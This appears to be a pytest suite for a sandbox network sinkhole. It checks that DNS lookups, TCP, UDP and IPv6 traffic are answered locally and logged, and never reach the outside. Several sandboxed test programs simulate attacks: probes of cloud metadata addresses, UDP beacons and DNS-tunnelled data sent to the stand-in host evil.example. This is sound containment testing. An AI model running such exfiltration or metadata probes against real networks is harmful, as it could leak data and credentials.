from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest

from fumehood.sandbox.egress import Mode, Policy, Rule

if TYPE_CHECKING:
    from escape.egress.conftest import Hood

pytestmark = [pytest.mark.sandbox, pytest.mark.threat("R20")]
SINKHOLE = Policy(mode=Mode.SINKHOLE, rules=(Rule(host="public.example", port=80, operator=True),))
OPEN = Policy(mode=Mode.OPEN)
ONCE = b"GET /late HTTP/1.1\r\nHost: late.example\r\nConnection: close\r\n\r\n"


def test_every_name_and_address_is_answered_here_and_nothing_leaves(hood: "Hood") -> None:
    addresses = ["93.184.216.50", "169.254.169.254", "10.0.0.1", "93.184.216.99", "198.18.0.7", "100.100.100.200"]
    program = (
        "names = [look(n) for n in ('public.example', 'absent.example', 'single', '_x.a.example')]\n"
        f"four = [ask(a, 8080, {ONCE!r}) for a in {addresses!r}]\n"
        f"six = [ask(a, 81, {ONCE!r}, socket.AF_INET6) for a in ('2606:4700::1111', 'fd00:ec2::254')]\n"
        f"say(names=names, four=four, six=six, name=ask('public.example', 80, {ONCE!r}))"
    )
    done = hood.run(SINKHOLE, program)
    assert done.said["names"] == [["198.18.1.0"], ["198.18.1.1"], ["198.18.1.2"], ["198.18.1.3"]]
    for answer in (*done.said["four"], *done.said["six"], done.said["name"]):
        assert answer.startswith("HTTP/1.1 200 OK\r\n")
    assert hood.outer.dialled == []
    assert hood.outer.asked == []
    assert hood.outer.received == []
    assert done.notes == ()
    recorded = {(r.address, r.port) for r in done.records("tcp", decision="answered")}
    assert recorded >= {(address, 8080) for address in addresses} | {("2606:4700::1111", 81), ("fd00:ec2::254", 81)}
    (named,) = done.records("tcp", name="public.example")
    assert (named.requests[0].method, named.requests[0].host) == ("GET", "late.example")


def test_the_same_program_reaches_the_outer_world_in_open(hood: "Hood") -> None:
    done = hood.run(OPEN, "say(got=get('public.example', 80))")
    assert done.said["got"].startswith("outer:")
    assert hood.outer.dialled == [("93.184.216.34", 80)]


def test_datagrams_to_any_address_are_recorded_with_their_first_bytes(hood: "Hood") -> None:
    done = hood.run(
        SINKHOLE,
        "for family, address in ((socket.AF_INET, '8.8.4.4'), (socket.AF_INET6, '2001:4860:4860::8844')):\n"
        "    with socket.socket(family, socket.SOCK_DGRAM) as s:\n"
        "        for n in range(20):\n"
        "            try: s.sendto(b'beacon %d' % n, (address, 8125))\n"
        "            except OSError: pass\n"
        "say()",
    )
    for address in ("8.8.4.4", "2001:4860:4860::8844"):
        firsts = [r.first for r in done.records("packet", protocol="udp", address=address, port=8125)]
        assert firsts[:2] == [b"beacon 0", b"beacon 1"]
        assert len(firsts) == 8
    assert done.report.lost["packet repeated"] >= 2


def test_a_service_of_the_target_itself_on_loopback_is_its_own(hood: "Hood") -> None:
    done = hood.run(
        SINKHOLE,
        "import threading\n"
        "own = socket.create_server(('127.0.0.1', 8099))\n"
        "def serve():\n"
        "    client, _ = own.accept(); client.sendall(b'mine'); client.close()\n"
        "threading.Thread(target=serve, daemon=True).start()\n"
        "say(got=ask('127.0.0.1', 8099), none=ask('127.0.0.1', 8098))",
    )
    assert done.said == {"got": "mine", "none": "ConnectionRefusedError"}
    assert done.records("tcp") == []


def test_a_thousand_connections_at_once_keep_nobody_out(hood: "Hood") -> None:
    done = hood.run(
        SINKHOLE,
        "held = []\n"
        "for n in range(1000):\n"
        "    s = socket.socket(); s.setblocking(False); s.connect_ex(('93.184.216.50', 1000 + n)); held.append(s)\n"
        f"say(got=ask('10.0.0.1', 80, {ONCE!r}))",
    )
    assert done.said["got"].startswith("HTTP/1.1 200")
    (late,) = done.records("tcp", address="10.0.0.1")
    assert late.requests[0].target == "/late"
    silent = [r for r in done.records("tcp", address="93.184.216.50") if r.hello == "none"]
    assert len(silent) + done.report.lost.get("tcp answered", 0) == 1000


def test_ever_new_names_below_one_domain_hide_no_other_domain(small: Callable[..., "Hood"]) -> None:
    hood = small(names=100, records=50)
    done = hood.run(
        SINKHOLE,
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.settimeout(5)\n"
        "for n in range(500):\n"
        "    label = b'data-%04d' % n\n"
        "    q = n.to_bytes(2, 'big') + bytes.fromhex('01000001000000000000')\n"
        "    s.sendto(q + bytes([len(label)]) + label + b'\\x04evil\\x07example\\0\\0\\1\\0\\1', ('9.9.9.9', 53))\n"
        "    s.recv(512)\n"
        f"say(late=look('late.other.example'), got=ask('late.other.example', 80, {ONCE!r})[:12])",
    )
    assert done.said["late"] == ["198.18.0.1"]
    names = [r.name for r in done.records("dns")]
    assert "data-0000.evil.example" in names
    assert "late.other.example" in names
    assert len(names) < 300
    assert len(names) + done.report.lost["dns answered"] >= 502
    (late,) = [r for r in done.records("tcp") if r.address == "198.18.0.1"]
    assert late.requests[0].host == "late.example"


def test_questions_over_tcp_and_huge_names_are_answered_or_recorded(hood: "Hood") -> None:
    done = hood.run(
        SINKHOLE,
        "def q(labels):\n"
        "    name = b''.join(bytes([len(l)]) + l for l in labels) + b'\\0'\n"
        "    m = b'\\xab\\xcd' + bytes.fromhex('01000001000000000000') + name + b'\\0\\1\\0\\1'\n"
        "    return len(m).to_bytes(2, 'big') + m\n"
        "said = []\n"
        "for labels in ([b'a', b'example'], [b'x' * 63] * 3 + [b'y' * 61], [b'x' * 63] * 5):\n"
        "    with socket.create_connection(('2001:4860:4860::8844', 53)) as s:\n"
        "        s.sendall(q(labels)); said.append(s.recv(600)[5] & 15)\n"
        "say(codes=said)",
    )
    assert done.said["codes"] == [0, 0, 1]
    assert [r.decision for r in done.records("dns", protocol="tcp")] == ["answered", "answered", "malformed"]


def test_without_nft_usual_ports_are_answered_and_the_result_says_what_is_missing(hood: "Hood") -> None:
    hood.nft = None
    done = hood.run(
        SINKHOLE,
        f"say(web=ask('public.example', 80, {ONCE!r}), raw=ask('10.0.0.1', 80, {ONCE!r}),"
        f" other=ask('10.0.0.1', 8080, {ONCE!r}))",
    )
    assert done.said["web"].startswith("HTTP/1.1 200")
    assert done.said["raw"].startswith("HTTP/1.1 200")
    assert done.said["other"] == "ConnectionRefusedError"
    assert done.records("packet", protocol="tcp", address="10.0.0.1", port=8080)
    assert any("80, 443" in note for note in done.notes)
    assert hood.outer.dialled == []
